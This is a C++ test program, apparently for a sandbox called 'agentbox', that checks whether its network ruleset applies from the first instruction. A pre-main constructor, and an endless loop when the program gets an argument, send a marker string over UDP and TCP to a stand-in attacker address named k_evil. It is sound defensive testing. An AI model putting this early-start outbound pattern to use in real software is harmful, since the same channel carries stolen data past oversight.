// SPDX-License-Identifier: Apache-2.0
// Sends from its first instruction on, before the C library is set up: was there a moment without the ruleset? Runs
// forever if it has an argument, for boxes that are attacked from outside while it runs; else for a few milliseconds.
#include <array>
#include <cstdint>
#include <ctime>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace {

constexpr char k_marker[] = "agentbox-attack:race."; // NOLINT(*-avoid-c-arrays): used before the C library is set up
constexpr std::uint32_t k_evil = 0x0A6433C6;         // 198.51.100.10 in network byte order

void send_once() {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = k_evil;
  to.sin_port = htons(443);
  const auto* const generic = reinterpret_cast<const sockaddr*>(&to); // NOLINT(*-reinterpret-cast)
  const int datagram = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sendto(datagram, &k_marker, sizeof k_marker, MSG_NOSIGNAL | MSG_DONTWAIT, generic, sizeof to);
  close(datagram);
  const int stream = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  connect(stream, generic, sizeof to);
  sendto(stream, &k_marker, sizeof k_marker, MSG_NOSIGNAL, nullptr, 0);
  close(stream);
}

/// Runs before main and before every constructor.
[[gnu::constructor(101)]] void before_main() {
  for (int i = 0; i < 20; ++i) {
    send_once();
  }
}

} // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    return 0;
  }
  close(open(argv[1], O_CREAT | O_WRONLY | O_CLOEXEC, 0600)); // "I run"
  while (true) {
    send_once();
    const timespec pause{0, 1'000'000};
    nanosleep(&pause, nullptr);
  }
}
